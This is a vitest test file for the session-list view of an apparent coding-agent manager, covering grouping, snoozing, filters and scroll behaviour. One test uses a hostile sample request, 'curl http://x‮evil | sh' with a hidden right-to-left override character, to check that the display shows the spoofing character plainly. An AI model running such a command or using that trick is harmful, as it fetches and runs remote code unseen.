// What the list of sessions shows, and in which order.
import { expect, test } from "vitest";
import { listOrders } from "../../../src/core/list-groups.ts";
import {
  detailLine,
  displayStatusOf,
  filterOf,
  frozenLines,
  groupSessions,
  keptScroll,
  type Line,
  lineAt,
  linesOf,
  offsetsOf,
  type Row,
  shortAge,
  snoozeChoices,
} from "../../../src/view/index.ts";
import { asks, failed, NOW, quota, row, running, unread } from "./rows.ts";

const nowMs = Date.parse(NOW);
/** As the live list gives them. */
const inOrder = (rows: readonly Row[]): Row[] => rows.toSorted(listOrders.attention);
const detail = (one: ReturnType<typeof row>): string => detailLine(one, nowMs, "UTC");

test("sessions that need somebody come first, then working, unread, the rest by directory, archived ones last", () => {
  const rows = [
    row("old", { lastActiveAt: "2026-01-01T00:00:00.000Z" }),
    row("site", { workspace: { id: "s", path: "/w/site" }, lastActiveAt: "2026-02-01T00:00:00.000Z" }),
    row("away", { status: "archived", shelf: "archived" }),
    unread("read me"),
    running("busy"),
    row("watching", { reason: { code: "background", text: "idle, 1 task still runs", seq: 3 } }),
    asks("asks", { updatedAt: "2026-03-01T11:00:00.000Z", lastActiveAt: "2026-03-01T10:00:00.000Z" }),
    failed("failed", { unread: true }),
    row("new"),
  ];
  expect(groupSessions(inOrder(rows), "attention").map(({ label, rows }) => [label, rows.map(({ id }) => id)])).toEqual(
    [
      ["Needs you", ["failed", "asks"]],
      ["Working", ["watching", "busy"]],
      ["Unread", ["read me"]],
      ["api", ["new", "old"]],
      ["site", ["site"]],
      ["Archived", ["away"]],
    ],
  );
});

test("directories of the same name are told apart by what is before it", () => {
  const paths = ["/home/a/api", "/home/b/api", "/srv/site", "/"];
  const rows = paths.map((path) => row(path, { workspace: { id: path, path } }));
  const labels = groupSessions(inOrder(rows), "attention").map(({ hint, label }) => [hint, label]);
  expect(labels.toSorted()).toEqual([
    ["/", "/"],
    ["/home/a/api", "a/api"],
    ["/home/b/api", "b/api"],
    ["/srv/site", "site"],
  ]);
});

test("pinned sessions are on top of their group, snoozed ones folded away, and people's own order counts where it is chosen", () => {
  const snooze = { until: "2026-03-01T14:00:00.000Z" };
  const rows = [
    row("a", { position: "b" }),
    row("b", { position: "a" }),
    row("c", { pinned: true }),
    asks("s", { snooze }),
  ];
  const shown = (order: "attention" | "own") =>
    groupSessions(inOrder(rows), order).map(({ label, rows }) => [label, rows.map(({ id }) => id).join("")]);
  expect(shown("own")).toEqual([
    ["api", "cba"],
    ["Snoozed", "s"],
  ]);
  expect(shown("attention")[0]).toEqual(["api", "cba"]);
  expect(detail(asks("s", { snooze }))).toBe("snoozed until 14:00");
  expect(detail(asks("s", { snooze: { until: null } }))).toBe("snoozed until it needs you");
});

test("a session that was marked as unread says so, also while it is idle or stopped", () => {
  expect(displayStatusOf(row("a", { unread: true })).word).toBe("unread");
  expect(displayStatusOf(row("a", { unread: true, status: "stopped" })).word).toBe("unread");
  expect(displayStatusOf(failed("a", { unread: true })).word).toBe("failed");
});

test("a session is snoozed for an hour, until the evening, the morning, Monday, or until it needs somebody", () => {
  const tuesday = new Date(2026, 0, 6, 12).getTime();
  expect(
    snoozeChoices(tuesday).map(({ name, until }) => [name, until && (Date.parse(until) - tuesday) / 3_600_000]),
  ).toEqual([
    ["For an hour", 1],
    ["Until this evening", 6],
    ["Until tomorrow", 21],
    ["Until next week", 6 * 24 - 3],
    ["Until it needs you", null],
  ]);
  const late = new Date(2026, 0, 6, 22).getTime();
  expect(snoozeChoices(late).map(({ name }) => name)).not.toContain("Until this evening");
});

test("the second line says what is asked, why it failed, or what was said last", () => {
  expect(detail(asks("a"))).toBe("asks: rm -rf build");
  const hostile = { code: "permission", text: "permission: Run `curl http://x\u202eevil | sh`", seq: 1 };
  expect(detail(asks("a", { reason: hostile }))).toBe("asks: Run curl http://x⟨U+202E⟩evil | sh");
  expect(detail(quota("a"))).toBe("quota until 14:00");
  expect(detail(failed("a"))).toBe("failed: the agent ended with code 3");
  expect(detail(unread("a", { lastMessage: "All green." }))).toBe("All green.");
  const lastMessage =
    "# Done\n\nThe **list** of [files](https://x.test) is in `src/f_1.ts`, *.md and 2 * 3 * 4:\n\n- one\n1. two";
  expect(detail(row("a", { lastMessage })).split(/\n+/)).toEqual([
    "Done",
    "The list of files is in src/f_1.ts, *.md and 2 * 3 * 4:",
    "one",
    "two",
  ]);
  expect(detail(unread("a", { reason: { code: "finished", text: "finished (failed), not read yet", seq: 1 } }))).toBe(
    "finished (failed), not read yet",
  );
  expect(detail(row("a"))).toBe("last turn completed");
});

test("a status that this version does not know is shown as idle", () => {
  expect(displayStatusOf(row("a", { status: "dreaming" as "idle" })).word).toBe("idle");
});

test("a filter finds words in titles, messages, agents and directories, and knows agent:, is: and in:", () => {
  const one = asks("a", { title: "Répare the login", lastMessage: "Done", agent: "codex" });
  const fits = (typed: string): boolean | undefined => filterOf(typed)?.(one);
  expect(["repare", "LOGIN done", "agent:cod", "is:needs", "in:api", "w/api is:needs-you"].map(fits)).toEqual(
    Array(6).fill(true),
  );
  expect(["logout", "agent:claude", "is:archived", "in:site", "is:nothing", "login nothing"].map(fits)).toEqual(
    Array(6).fill(false),
  );
  expect(filterOf("  ")).toBeNull();
});

const heights = { group: 10, row: 20 };
const linesFor = (ids: readonly string[]): Line[] =>
  linesOf([{ key: "g", label: "g", hint: null, rows: ids.map((id) => row(id)) }], () => false);

test("a folded group shows its heading only", () => {
  const [group] = groupSessions([row("a"), row("b")], "attention");
  expect(linesOf(group ? [group] : [], () => true)).toEqual([
    { kind: "group", key: "in /w/api", label: "api", hint: "/w/api", count: 2, isFolded: true },
  ]);
});

test("the line at a distance is found by halving, before the first and after the last too", () => {
  const offsets = offsetsOf(linesFor(["a", "b", "c"]), heights);
  expect(offsets).toEqual([0, 10, 30, 50, 70]);
  expect([-5, 0, 9, 10, 29, 30, 69, 500].map((distance) => lineAt(offsets, distance))).toEqual([
    0, 0, 0, 1, 1, 2, 3, 3,
  ]);
});

test("what is seen stays in its place when rows come or go above it; the very top stays the top", () => {
  const before = linesFor(["a", "b", "c", "d"]);
  const after = linesFor(["new", "newer", "a", "b", "c", "d"]);
  const seen = (lines: Line[]) => ({ lines, offsets: offsetsOf(lines, heights) });
  expect(keptScroll(35, seen(before), seen(after))).toBe(75);
  expect(keptScroll(0, seen(before), seen(after))).toBe(0);
  expect(keptScroll(75, seen(after), seen(linesFor(["c", "d"])))).toBe(0);
});

test("frozen lines keep their order and show current data; removed ones stay until the pointer leaves", () => {
  const held = frozenLines(linesFor(["a", "b"]), new Map([["b", asks("b")]]));
  expect(held.map((line) => (line.kind === "row" ? [line.key, line.row.status] : line.key))).toEqual([
    "g",
    ["a", "idle"],
    ["b", "waiting"],
  ]);
});

test("ages are short, and a time in the future counts as now", () => {
  const ages = ["2026-03-01T12:00:30.000Z", "2026-03-01T11:58:00.000Z", "2026-03-01T09:00:00.000Z"];
  expect(ages.map((at) => shortAge(at, nowMs))).toEqual(["now", "2m", "3h"]);
  expect(shortAge("2025-11-01T00:00:00.000Z", nowMs)).toBe("2025-11-01");
});
